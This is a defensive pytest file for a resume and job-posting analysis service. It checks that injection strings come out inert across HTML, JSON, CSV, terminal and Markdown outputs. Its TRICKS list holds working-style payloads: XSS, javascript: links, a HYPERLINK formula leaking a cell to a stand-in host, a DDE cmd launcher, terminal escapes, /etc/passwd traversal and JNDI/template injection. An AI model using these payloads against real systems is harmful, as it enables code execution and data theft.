"""Tricks in every field of a resume, a posting and an application come out as text that does
nothing: as HTML, CSV, on a terminal and in JSON."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import date
from functools import cache
from typing import Any

import pytest
from lxml import html
from starlette.testclient import TestClient

from fitcheck.analysis import Analysis
from fitcheck.analyzer import Analyzer
from fitcheck.followup.application_file import parse_application
from fitcheck.followup.pipeline import Folder, build_pipeline
from fitcheck.followup.relationships import Relationships
from fitcheck.render.escape import csv_row
from fitcheck.render.markdown import report_markdown
from fitcheck.render.pipeline import pipeline_text
from fitcheck.render.pipeline_page import pipeline_page
from fitcheck.render.terminal import report_text
from tests.service.conftest import MARK, TOKEN
from tests.test_safe_output import commanding

DAY = date(2026, 11, 22)
TRICKS = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>\" onload='alert(1)",
    "link": "[x](javascript:alert(1)) <a href=javascript:alert(1)>x</a>",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"x")',
    "minus": "-2+3+cmd|' /C calc'!A0",
    "escape": "\x1b[2J\x1b]0;pwned\x07\x9b31m\u202e\u200b\x7f",
    "path": "../../../../etc/passwd",
    "template": "{{7*7}} ${jndi:ldap://x} %s%n {0.__class__}",
    "closing": "</textarea></title></style></script>--><!--]]>",
}
OURS = {"#", "/"}


def resume_of(trick: str) -> bytes:
    """A JSON Resume with the trick in every text of it."""
    job = {
        "name": f"Mill {trick}",
        "position": f"Baker {trick}",
        "location": trick,
        "startDate": "2015-01",
        "endDate": "2024-01",
        "summary": f"Baked bread {trick}",
        "highlights": [f"Baked bread for 80 guests {trick}", trick],
    }
    school = {
        "institution": trick,
        "area": f"Baking {trick}",
        "studyType": f"Bachelor {trick}",
        "endDate": "2014-01",
    }
    value = {
        "basics": {"name": f"Jane {trick}", "label": trick, "summary": trick, "url": trick},
        "work": [job],
        "education": [school],
        "certificates": [{"name": f"Food handler {trick}", "date": "2016-01", "issuer": trick}],
        "languages": [{"language": f"Spanish {trick}", "fluency": trick}],
        "skills": [{"name": f"Baking {trick}", "keywords": ["Pastry", trick]}],
    }
    return json.dumps(value).encode()


def posting_of(trick: str) -> bytes:
    """A page with the trick in every field of its JobPosting, and in its text."""
    fields = {
        "@context": "https://schema.org",
        "@type": "JobPosting",
        "title": f"Baker {trick}",
        "hiringOrganization": {"@type": "Organization", "name": f"Mill {trick}", "url": trick},
        "jobLocation": {"@type": "Place", "address": {"addressLocality": trick}},
        "description": trick,
        "validThrough": f"2026-12-01 {trick}",
        "identifier": trick,
    }
    told = json.dumps(fields).replace("<", "\\u003c")
    text = trick.replace("&", "&amp;").replace("<", "&lt;")
    return (
        f'<html><head><title>{text}</title><script type="application/ld+json">{told}</script>'
        f"</head><body><h1>Baker {text}</h1><h2>Requirements</h2><ul><li>3 years as a baker {text}"
        f"<li>Pastry {text}<li>{text}<li>Must live in {text}</ul></body></html>"
    ).encode()


@cache
def analysis(trick: str) -> Analysis:
    analyzer = Analyzer()
    resume = analyzer.read(resume_of(trick), name=f"{trick}.json")
    posting = analyzer.read(posting_of(trick), name=f"{trick}.html")
    return analyzer.analyze(resume, posting, as_of=DAY)


def parts(trick: str) -> dict[str, tuple[str, bytes]]:
    return {
        "resume": (f"{trick}.json", resume_of(trick)),
        "posting": (f"{trick}.html", posting_of(trick)),
    }


def strings(value: Any) -> Iterator[str]:
    """Every text in a value of JSON."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for inner in value.values():
            yield from strings(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from strings(inner)


def inert(page: str) -> None:
    """Fail where a page holds an element, a link or an attribute that is not ours."""
    tree: Any = html.fromstring(page)
    names = {element.tag for element in tree.iter() if isinstance(element.tag, str)}
    assert not names & {"img", "iframe", "object", "embed", "base", "link", "audio", "video"}
    assert len(tree.xpath("//script")) <= 1
    assert not tree.xpath("//@*[starts-with(name(), 'on')] | //@style | //@src")
    assert [link for link in tree.xpath("//@href") if link[:1] not in OURS] == []
    assert commanding(page) == set()


every_trick = pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS)


@every_trick
def test_in_json_a_trick_is_a_text(service: TestClient, trick: str) -> None:
    answer = service.post("/v1/check", files=parts(trick), headers=MARK)
    assert answer.status_code == 200
    assert commanding(answer.text) == set()
    found = list(strings(answer.json()))
    assert any("Baker" in text for text in found)


@every_trick
def test_in_html_a_trick_is_a_text(service: TestClient, trick: str) -> None:
    answer = service.post(f"/check?token={TOKEN}", files=parts(trick))
    assert answer.status_code == 200
    inert(answer.text)
    assert "Baked bread" in answer.text


@every_trick
def test_on_a_terminal_and_in_markdown_a_trick_is_a_text(trick: str) -> None:
    for text in (
        report_text(analysis(trick), width=80, colour=False),
        report_markdown(analysis(trick)),
    ):
        assert "aker" in text
        assert commanding(text) == set()
    assert "<script" not in report_markdown(analysis(trick)).replace(r"\<script", "")


@every_trick
def test_in_csv_a_trick_is_a_text(service: TestClient, trick: str) -> None:
    answer = service.post("/v1/check", files=parts(trick), headers=MARK)
    cells = list(strings(answer.json()))
    row = csv_row(cells)
    assert commanding(row[:-2]) == set()
    (read,) = csv.reader(io.StringIO(row))
    assert len(read) == len(cells)
    assert [cell for cell in read if cell.lstrip()[:1] in tuple("=+-@\t\r\0")] == []


@every_trick
def test_in_a_plan_and_a_due_list_a_trick_is_a_text(service: TestClient, trick: str) -> None:
    seen = "".join(char for char in trick if char.isprintable())
    told = {
        "channel": "ats",
        "id": seen or "x",
        "title": f"Baker {seen}",
        "employer": f"Mill {seen}",
        "applied_on": "2026-11-02",
        "fit": "strong",
        "contact": {"name": f"Robin {seen}"},
        "sender": {"name": f"Jane {seen}"},
        "events": [{"on": "2026-11-05", "kind": "reply", "note": seen or "x"}],
        "override": {"on": "2026-11-06", "verdict": "follow_up", "reason": seen or "x"},
    }
    answer = service.post("/v1/followup", json={"application": told})
    assert answer.status_code == 200, answer.text
    assert commanding(answer.text) == set()
    application = parse_application(json.dumps(told), name="a.json")
    folder = Folder(applications=(application,), relationships=Relationships(), problems=())
    pipeline = build_pipeline(folder, today=DAY)
    inert(pipeline_page(pipeline, home="/"))
    assert commanding(pipeline_text(pipeline)) == set()


@every_trick
def test_what_a_file_is_called_is_only_shown(service: TestClient, trick: str) -> None:
    answer = service.post(
        f"/check?token={TOKEN}",
        files={"resume": (trick, b""), "posting_text": (None, f"Baker {trick}".encode())},
    )
    assert answer.status_code == 422
    inert(answer.text)
    refused = service.post(
        "/v1/check",
        json={"resume": {"base64": "AAAA", "name": trick}, "posting": {"text": "Baker"}},
    )
    assert refused.status_code == 422
    assert commanding(refused.text) == set()
    assert refused.json()["error"]["source"] == trick
